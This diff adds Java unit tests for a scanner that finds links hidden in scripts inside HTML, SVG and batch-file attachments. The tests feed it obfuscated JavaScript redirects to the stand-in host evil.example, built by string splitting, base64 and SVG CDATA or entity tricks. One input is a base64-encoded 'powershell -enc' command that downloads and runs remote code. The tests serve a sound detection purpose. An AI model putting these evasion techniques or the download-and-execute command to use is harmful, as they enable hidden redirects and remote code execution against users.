@@ -58,6 +58,91 @@ class ScriptsTest {
                 .holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
     }
 
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "var a='http://ev',b='il.ex',c='ample';location=a+b+c",
+                "location=a+b;var a='http://ev';var b='il.example'",
+                "let u='';u+='http:';u+='//evil';u+='.example';location=u",
+                "const h='evil.example';location=`http://${h}/x`",
+                "var k='aHR0cDovL2V2',m='aWwuZXhhbXBsZS94';location=atob(k+m)",
+                "x={};x.a='http://ev';x.b='il.example';location=a+b"
+            })
+    void aNameStandsForTheTextThatWasAssignedToIt(String script) {
+        ReadMessage file = attached("x.html", "<p>x</p><script>" + script + "</script>");
+        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
+        assertEquals(Set.of(), file.limits());
+    }
+
+    @Test
+    void namesThatStandForMuchAreBounded() {
+        String doubled = "a='" + "x y".repeat(50) + "';" + "a=a+a;".repeat(30);
+        assertEquals(Set.of("scripts"), attached("x.js", doubled).limits());
+        String many = java.util.stream.IntStream.range(0, 1_001)
+                .mapToObj(i -> "n" + i + "='x';")
+                .collect(java.util.stream.Collectors.joining());
+        assertEquals(Set.of("scripts"), attached("x.js", many).limits());
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<svg xmlns='http://www.w3.org/2000/svg'><script>location='http://'+'evil.example'</script></svg>",
+                "<svg><script><![CDATA[location='http://'+'evil.example']]></script></svg>",
+                "<svg><script>location=&quot;http://&quot;+&#34;evil.example&#34;</script></svg>",
+                "<svg><script>location='http://'<!-- x -->+'evil.example'</script></svg>",
+                "<svg><g><script type='a'>var a='http://ev'<![CDATA[;location=a+'il.example']]></script></g></svg>"
+            })
+    void scriptsOfDrawingsAreScripts(String svg) {
+        ReadMessage file = attached("x.svg", svg);
+        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "document.write(unpack('qwertz'))",
+                "location=decode(['a1','b2'])",
+                "document.body.innerHTML=f(x)",
+                "window['loca'+'tion']=f(x)",
+                "eval(z)",
+                "x=createElementNS('http://www.w3.org/2000/svg','a');location=f(x)"
+            })
+    void aScriptThatActsAndShowsNoLinkIsNamed(String script) {
+        assertEquals(
+                Set.of("scriptOpaque"),
+                attached("x.html", "<p>x</p><script>" + script + "</script>").limits());
+        assertEquals(
+                Set.of("scriptOpaque"),
+                attached("x.svg", "<svg><script>" + script + "</script></svg>").limits());
+        assertEquals(
+                Set.of(),
+                ReadMessage.html("<p>x</p><script>" + script + "</script>").limits(),
+                "no client runs it");
+    }
+
+    @Test
+    void aScriptThatOnlyCountsIsNotNamed() {
+        assertEquals(
+                Set.of(),
+                attached("x.html", "<script>var n=1;function f(){n++}</script>").limits());
+    }
+
+    @Test
+    void valuesThatAScriptDecodesAreRead() {
+        ReadMessage file =
+                attached("x.html", "<div data-x='aHR0cDovL2V2aWwuZXhhbXBsZS94'></div><script>go(d.dataset.x)</script>");
+        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
+    }
+
+    @Test
+    void whatAShellDecodesIsRead() {
+        String wide = Base64.getEncoder()
+                .encodeToString("iwr http://evil.example/x|iex".getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
+        ReadMessage file = attached("run.bat", "powershell -enc " + wide + "\r\n");
+        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
+    }
+
     @Test
     void whatIsDecodedIsBounded() {
         String piece = "'" + "a b".repeat(100) + "'+'c';";
